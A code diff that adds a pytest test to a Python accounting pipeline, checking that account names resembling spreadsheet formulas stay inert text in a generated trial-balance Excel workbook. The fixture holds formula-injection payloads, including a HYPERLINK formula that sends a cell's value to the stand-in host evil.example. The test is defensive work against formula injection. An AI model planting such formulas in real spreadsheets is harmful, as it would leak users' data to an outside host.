@@ -8,6 +8,7 @@ import subprocess
 from decimal import Decimal
 from html.parser import HTMLParser
 from pathlib import Path
+from zipfile import ZipFile
 
 import pytest
 from openpyxl import load_workbook
@@ -102,6 +103,40 @@ def test_trial_balance_workbook_holds_numbers(books_home: Path, tmp_path: Path) 
     assert by_account["2050"] == [-1100, 0, 0, 0, -1100]
     assert rows[-1] == [None, "Sum", 0, 700, 700, 0, 0]
     assert sheet.cell(3, 3).number_format == "#,##0.00"
+
+
+#: account names as an ERP may hand them over: each would be a live formula in a spreadsheet
+FORMULAS = {"1920": '=HYPERLINK("http://evil.example/?"&C3,"Klikk")', "2400": "\r+47 Gjeld", "3000": "@SUM(C3:C9)",
+            "6300": "-1+2 Leie", "2050": "\t=1+1"}
+
+
+def test_erp_text_that_looks_like_a_formula_stays_text_in_the_workbook(home: Path, warehouse_url: str,
+                                                                        tmp_path: Path) -> None:
+    from sqlalchemy import update
+
+    from osr_pipelines.warehouse.schema import dimension_tables
+
+    wh = insert_books(warehouse_url)
+    accounts = dimension_tables["accounts"]
+    with wh.engine.begin() as conn:
+        for number, name in FORMULAS.items():
+            conn.execute(update(accounts).where(accounts.c.number == number).values(name=name))
+    wh.dispose()
+    write_registry(home / "registry.yaml", [synthetic_connection("books")], [("books", "sek")])
+    _, book = written(osr("report", "trial-balance", "--company", COMPANY, "--period", "2024-01",
+                          "--out", str(tmp_path / "out")).output)
+    sheet = load_workbook(book)["Trial balance"]
+    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=3) if row[0].value}
+    # XML reads a carriage return back as a line feed: still text, as the data type says
+    assert {n: names[n].value for n in FORMULAS} == {n: text.replace("\r", "\n") for n, text in FORMULAS.items()}
+    assert {names[number].data_type for number in FORMULAS} == {"s"}
+    assert all(names[number].quotePrefix for number in FORMULAS)
+    row_2050 = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == "2050")
+    assert (row_2050[2].value, row_2050[2].data_type) == (-1100, "n")  # a negative amount is still a number
+    with ZipFile(book) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert not re.search(r"<f[ >]", xml) and "HYPERLINK" in xml
+    assert re.search(r'<c r="B\d+"[^>]* t="inlineStr"><is><t>=HYPERLINK', xml)
 
 
 @sqlite_only
